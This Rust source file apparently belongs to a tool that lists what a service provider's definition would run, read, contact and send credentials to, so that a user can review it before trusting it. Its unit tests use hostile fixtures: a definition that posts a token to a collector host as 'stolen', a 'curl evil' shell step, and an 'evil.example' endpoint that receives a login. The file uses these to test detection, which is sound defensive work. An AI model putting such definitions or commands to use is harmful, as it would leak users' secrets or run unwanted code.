//! What following a source would run, contact, read and send where, as its provider's definition says: for the list that
//! `crashcart trust` shows.
//!
//! It knows values of the configuration only. What an answer or an action fills in stands in its braces: `{release.id}`.

use std::collections::{BTreeMap, BTreeSet};

use serde_json::Value;

use super::definition::login::LoginPlace;
use super::definition::template::Encoding;
use super::definition::{
    ACCESS_TOKEN, Auth, Body, Capability, Definition, Fields, Request, Scheme, SecretSlot, Target,
};
use crate::config::effects::{TrustItem, TrustKind, words};
use crate::model::source::Source;

/// Whose definition it is.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Author {
    /// It is built in, or the user's own: hosts and programs are listed, and which secrets go there.
    Known,
    /// It came with the repository: every request is listed, whole.
    Repository,
}

/// Returns what a source would do. `uses` are the parameters that services give it; `only` is the one capability that is asked
/// of it, if it is one.
pub fn items(
    definition: &Definition,
    source: &Source,
    uses: &[&BTreeMap<String, Value>],
    author: Author,
    only: Option<Capability>,
) -> Vec<TrustItem> {
    let nothing = BTreeMap::new();
    let mut items = BTreeSet::new();
    let given: Vec<&BTreeMap<String, Value>> = if uses.is_empty() { vec![&nothing] } else { uses.to_vec() };
    // One line for each secret and host, with everything that it is sent for.
    let mut sent = Sent::new();
    for params in given {
        let reach = Reach { definition, source, params, author };
        let asked = |purpose: &str| only.is_none_or(|only| purpose == only.word() || purpose == "login");
        for (purpose, request) in definition.requests().into_iter().filter(|(purpose, _)| asked(purpose)) {
            reach.request(&purpose, request, &mut items, &mut sent);
        }
        reach.logins(&mut items);
    }
    items.extend(sent.into_iter().map(|((secret, host), purposes)| {
        let purposes: Vec<String> = purposes.into_iter().collect();
        TrustItem::send(&secret, &host, &format!("source {}: {}", source.id, purposes.join(", ")))
    }));
    items.into_iter().collect()
}

/// What each secret is sent to each host for.
type Sent = BTreeMap<(String, String), BTreeSet<String>>;

struct Reach<'a> {
    definition: &'a Definition,
    source: &'a Source,
    params: &'a BTreeMap<String, Value>,
    author: Author,
}

impl Reach<'_> {
    /// Returns a parameter as requests are given it.
    fn value(&self, name: &str) -> Value {
        let Some(param) = self.definition.param(name) else { return Value::Null };
        let said = self.params.get(name).or_else(|| self.source.params.get(name));
        said.filter(|value| !value.is_null()).unwrap_or(&param.default).clone()
    }

    fn request(&self, purpose: &str, request: &Request, items: &mut BTreeSet<TrustItem>, sent: &mut Sent) {
        let purpose = match self.author {
            Author::Known => self.definition.title.as_str(),
            Author::Repository => purpose,
        };
        let why = format!("source {}: {purpose}", self.source.id);
        let mut send = |secret: String, host: &str| {
            sent.entry((secret, host.to_owned())).or_default().insert(purpose.to_owned());
        };
        match &request.target {
            Target::Run(argv) => {
                let argv: Vec<String> =
                    argv.iter().map(|word| word.shown(Encoding::Plain, |name| self.value(name))).collect();
                let (kind, far) = match self.source.url.as_deref().and_then(|url| url.strip_prefix("ssh://")) {
                    Some(host) => (TrustKind::Ssh, Some(host)),
                    None => (TrustKind::Run, None),
                };
                let shown = match self.author {
                    Author::Repository => words(&argv),
                    Author::Known => argv.first().cloned().unwrap_or_default(),
                };
                let before = far.map(|host| format!("{host}: ")).unwrap_or_default();
                let item = TrustItem::new(kind, &format!("{before}{shown} ({why})"));
                let host = far.unwrap_or("this machine");
                items.insert(match far {
                    Some(host) => item.at(host),
                    None => item,
                });
                for slot in self.definition.secrets.iter().filter(|slot| request.uses(&slot.name)) {
                    self.words(slot).into_iter().for_each(|secret| send(secret, host));
                }
            }
            Target::Http { method, path } => {
                let (host, address) = self.address(request, &path.shown(Encoding::Url, |name| self.value(name)));
                let told = match self.author {
                    Author::Known => host.clone(),
                    Author::Repository => format!("{method} {address}"),
                };
                items.insert(TrustItem::new(TrustKind::Contact, &format!("{told} ({why})")).at(&host));
                for secret in self.shown_to(request) {
                    send(secret, &host);
                }
            }
            Target::Mail(program) => {
                let host = self.base(request);
                items.insert(TrustItem::new(TrustKind::Contact, &format!("{host} ({why})")).at(&host));
                for slot in self.definition.secrets.iter().filter(|slot| program.uses(&slot.name)) {
                    self.words(slot).into_iter().for_each(|secret| send(secret, &host));
                }
            }
        }
    }

    /// Returns whom a request goes to, and its whole address.
    fn address(&self, request: &Request, path: &str) -> (String, String) {
        if let Some((_, behind)) =
            path.split_once("://").filter(|(scheme, _)| matches!(*scheme, "http" | "https" | "ws" | "wss"))
        {
            let host = behind.split(['/', '?', '#']).next().unwrap_or_default();
            return (host_of(path, host), path.to_owned());
        }
        // A path that is nothing but a variable may be a whole address, which an earlier answer names.
        if path.starts_with('{') && path.ends_with('}') {
            let host = format!("wherever {path} of an earlier answer points");
            return (host.clone(), host);
        }
        let base = self.base(request);
        let whole = format!("{}/{}", base.trim_end_matches('/'), path.trim_start_matches('/'));
        let host = match base.split_once("://") {
            Some(("unix", socket)) => format!("the socket {socket}"),
            Some((_, behind)) => host_of(&base, behind.split(['/', '?', '#']).next().unwrap_or_default()),
            None => base,
        };
        (host, whole)
    }

    /// Returns the address that paths stand behind.
    fn base(&self, request: &Request) -> String {
        if let Some(base) = &request.base {
            return base.shown(Encoding::Url, |name| self.value(name));
        }
        if let Some(slot) = self.definition.secrets.iter().find(|slot| slot.is_url)
            && let Some(secret) = self.words(slot)
        {
            return format!("the address in {secret}");
        }
        if let Some(url) = self.source.url.as_ref().filter(|url| !url.starts_with("ssh://")) {
            return url.clone();
        }
        if matches!(self.definition.auth.scheme, Some(Scheme::Kubeconfig)) {
            return format!("the cluster of {}", self.kubeconfig());
        }
        match &self.definition.base_url {
            Some(base) => base.shown(Encoding::Url, |name| self.value(name)),
            None => "nobody, as it has no url".to_owned(),
        }
    }

    /// Returns the secrets that a request shows to whom it goes to, in words.
    fn shown_to(&self, request: &Request) -> BTreeSet<String> {
        let auth = &self.definition.auth;
        let uses = |name: &str| {
            request.uses(name) || self.definition.headers.uses(name) || !request.anonymous && auth_shows(auth, name)
        };
        let mut shown: BTreeSet<String> = self
            .definition
            .secrets
            .iter()
            .filter(|slot| uses(&slot.name) || is_body_of(request, &slot.name))
            .filter_map(|slot| self.words(slot))
            .collect();
        let access = uses(ACCESS_TOKEN);
        match &auth.scheme {
            None => {}
            Some(Scheme::SigV4 { .. }) if request.anonymous => {}
            Some(Scheme::SigV4 { .. }) => {
                let profile = self.source.params.get("profile").and_then(Value::as_str);
                let profile = profile.map(|profile| format!(" (profile {profile})")).unwrap_or_default();
                shown.insert(format!("a signature with your AWS credentials{profile}"));
            }
            Some(Scheme::Kubeconfig) => {
                shown.insert(format!("the credential of {}", self.kubeconfig()));
            }
            Some(Scheme::Google { .. }) if access => {
                shown.insert(match self.credentials_file() {
                    Some(file) => format!("a token of Google Cloud's credentials in {file}"),
                    None => "a token of your Google Cloud login".to_owned(),
                });
            }
            Some(Scheme::Azure { .. }) if access => {
                shown.insert("a token of your Azure login".to_owned());
            }
            Some(Scheme::Exchange(exchange)) if access => {
                let traded = self.definition.secrets.iter().filter(|slot| exchange.request.uses(&slot.name));
                shown.extend(
                    traded.filter_map(|slot| self.words(slot)).map(|secret| format!("a token got with {secret}")),
                );
            }
            Some(Scheme::Google { .. } | Scheme::Azure { .. } | Scheme::Exchange(_)) => {}
        }
        shown
    }

    /// Returns where a secret comes from, in words; nothing when there is none.
    fn words(&self, slot: &SecretSlot) -> Option<String> {
        if let Some(place) = self.source.secrets.get(&slot.name) {
            return Some(place.to_string());
        }
        let places: Vec<String> = slot
            .login
            .iter()
            .map(|place| match place {
                LoginPlace::Env(name) => format!("environment variable {name}"),
                LoginPlace::File { path, .. } => path.clone(),
                LoginPlace::Netrc(machine) => format!("{machine} in ~/.netrc"),
                LoginPlace::Command(argv) => format!("what `{}` prints", argv.join(" ")),
            })
            .collect();
        (!places.is_empty()).then(|| format!("your login: {}", places.join(" or ")))
    }

    /// Returns what is read and run to log in.
    fn logins(&self, items: &mut BTreeSet<TrustItem>) {
        let id = &self.source.id;
        for slot in self.definition.secrets.iter().filter(|slot| !self.source.secrets.contains_key(&slot.name)) {
            for place in &slot.login {
                if let LoginPlace::Command(argv) = place {
                    items.insert(TrustItem::new(TrustKind::Run, &format!("{} (login of source {id})", words(argv))));
                }
            }
        }
        match &self.definition.auth.scheme {
            Some(Scheme::Kubeconfig) => {
                let file = self.kubeconfig();
                let what = format!("the program that {file} names for logging in, if it does (source {id})");
                items.insert(TrustItem::new(TrustKind::Run, &what));
                if let Some(path) = self.source.params.get("kubeconfig").and_then(Value::as_str) {
                    items.insert(TrustItem::new(TrustKind::Read, &format!("{path} (kubeconfig of source {id})")));
                }
            }
            Some(Scheme::Google { .. }) => {
                if let Some(file) = self.credentials_file() {
                    let what = format!("the program that {file} names for logging in, if it does (source {id})");
                    items.insert(TrustItem::new(TrustKind::Run, &what));
                    items.insert(TrustItem::new(TrustKind::Read, &format!("{file} (credentials of source {id})")));
                }
            }
            Some(Scheme::SigV4 { .. } | Scheme::Azure { .. } | Scheme::Exchange(_)) | None => {}
        }
    }

    fn kubeconfig(&self) -> String {
        let text = |name: &str| self.source.params.get(name).and_then(Value::as_str);
        let file = text("kubeconfig").unwrap_or("your kubeconfig");
        text("context").map_or_else(|| file.to_owned(), |context| format!("{file}, context {context}"))
    }

    fn credentials_file(&self) -> Option<&str> {
        self.source.params.get("credentials_file").and_then(Value::as_str)
    }
}

/// Returns the host of an address in ASCII, so that letters of other alphabets cannot pose as those of ours.
fn host_of(address: &str, host: &str) -> String {
    let parsed = url::Url::parse(address).ok().filter(|_| !host.contains('{'));
    let named = parsed.and_then(|url| {
        let port = url.port().map(|port| format!(":{port}")).unwrap_or_default();
        Some(format!("{}{port}", url.host_str()?))
    });
    named.unwrap_or_else(|| host.rsplit('@').next().unwrap_or(host).to_owned())
}

fn auth_shows(auth: &Auth, name: &str) -> bool {
    auth.bearer.as_deref() == Some(name)
        || auth.basic.as_ref().is_some_and(|(user, password)| user.uses(name) || password.uses(name))
        || auth.headers.uses(name)
        || auth.query.uses(name)
}

/// Returns whether a body's text or form holds the secret. Requests look for programs themselves.
fn is_body_of(request: &Request, name: &str) -> bool {
    match &request.body {
        Body::Form(Fields::Program(program)) => program.uses(name),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::model::id::SourceId;
    use crate::model::secret::SecretRef;
    use crate::provider::definition::read;
    use crate::provider::registry::BUILT_IN;

    fn source(provider: &str, url: Option<&str>) -> Source {
        Source {
            id: SourceId::new("it"),
            provider: provider.to_owned(),
            url: url.map(str::to_owned),
            params: BTreeMap::new(),
            secrets: BTreeMap::new(),
            ca: None,
            insecure: false,
            every: None,
            own: None,
        }
    }

    fn built_in(name: &str) -> Definition {
        let (_, text) = BUILT_IN.iter().find(|(known, _)| *known == name).unwrap();
        read(text).unwrap().0
    }

    fn told(
        definition: &Definition,
        source: &Source,
        uses: &[&BTreeMap<String, Value>],
        author: Author,
    ) -> Vec<String> {
        items(definition, source, uses, author, None).iter().map(ToString::to_string).collect()
    }

    #[test]
    fn a_login_that_nobody_wrote_down_is_listed_with_the_host_that_would_get_it() {
        let told = told(&built_in("fly"), &source("fly", Some("https://evil.example/v1")), &[], Author::Known);
        assert!(
            told.iter().any(|line| line.starts_with("send    your login: ") && line.contains("-> evil.example (")),
            "{told:#?}"
        );
    }

    #[test]
    fn a_parameter_of_a_service_that_names_the_host_is_seen() {
        let mut it = source("aws-ecs", None);
        let uses = [("region".to_owned(), json!("eu-central-1"))].into();
        let lines = told(&built_in("aws-ecs"), &it, &[&uses], Author::Known);
        assert!(lines.iter().any(|line| line == "send    a signature with your AWS credentials -> ecs.eu-central-1.amazonaws.com (source it: Amazon ECS)"), "{lines:#?}");
        it.params.insert("region".to_owned(), json!("us-east-1"));
        it.params.insert("profile".to_owned(), json!("prod"));
        let lines = told(&built_in("aws-ecs"), &it, &[], Author::Known);
        assert!(lines.iter().any(|line| line.contains("(profile prod) -> ecs.us-east-1.amazonaws.com")), "{lines:#?}");
    }

    #[test]
    fn a_kubeconfig_of_the_repository_is_read_and_may_run_something() {
        let mut it = source("kubernetes", None);
        it.params.insert("kubeconfig".to_owned(), json!("./k.yaml"));
        let lines = told(&built_in("kubernetes"), &it, &[], Author::Known);
        for wanted in [
            "run     the program that ./k.yaml names for logging in, if it does (source it)",
            "read    ./k.yaml (kubeconfig of source it)",
            "send    the credential of ./k.yaml -> the cluster of ./k.yaml (source it: Kubernetes)",
        ] {
            assert!(lines.iter().any(|line| line == wanted), "{wanted}\n{lines:#?}");
        }
    }

    #[test]
    fn every_request_of_a_repositorys_definition_is_listed_with_what_it_is_shown() {
        let text = r#"
[provider]
name = "mine"
title = "Mine"
kind = "hosting"
base_url = "https://{region}.mine.example"
auth = { bearer = "token" }
[params.region]
help = "where"
default = "eu"
[secrets.token]
help = "a token"
[secrets.other]
help = "another"
optional = true
login = [{ env = "GITHUB_TOKEN" }, { command = ["gh", "auth", "token"] }]
[releases]
get = "/apps"
map = "[]"
[identity]
post = "https://collect.example/x"
anonymous = true
json = "{stolen: $other}"
map = "{name: \"x\"}"
[actions.roll_back]
target = "release"
means = "restart"
steps = [{ name = "go", run = ["sh", "-c", "curl evil; {region}"] }]
"#;
        let definition = read(text).unwrap_or_else(|problems| panic!("{problems:?}")).0;
        let mut it = source("mine", None);
        it.secrets.insert("token".to_owned(), SecretRef::Keyring("mine".to_owned()));
        assert_eq!(
            told(&definition, &it, &[], Author::Repository),
            [
                "run     gh auth token (login of source it)",
                "run     sh -c 'curl evil; eu' (source it: action roll_back)",
                "send    keyring entry mine -> eu.mine.example (source it: releases)",
                "send    your login: environment variable GITHUB_TOKEN or what `gh auth token` prints -> collect.example (source it: identity)",
                "contact GET https://eu.mine.example/apps (source it: releases)",
                "contact POST https://collect.example/x (source it: identity)",
            ]
        );
    }

    #[test]
    fn a_vendors_page_is_asked_for_its_status_and_for_nothing_else() {
        let it = source("statuspage", Some("https://status.example"));
        let definition = built_in("statuspage");
        let lines = items(&definition, &it, &[], Author::Repository, Some(Capability::VendorStatus));
        assert!(
            !lines.is_empty() && lines.iter().all(|line| line.what.as_str().contains("vendor_status")),
            "{lines:#?}"
        );
    }

    #[test]
    fn letters_of_other_alphabets_do_not_pose_as_ours() {
        let lines = told(&built_in("fly"), &source("fly", Some("https://\u{430}pi.machines.dev")), &[], Author::Known);
        assert!(lines.iter().any(|line| line.contains("-> xn--")), "{lines:#?}");
    }
}
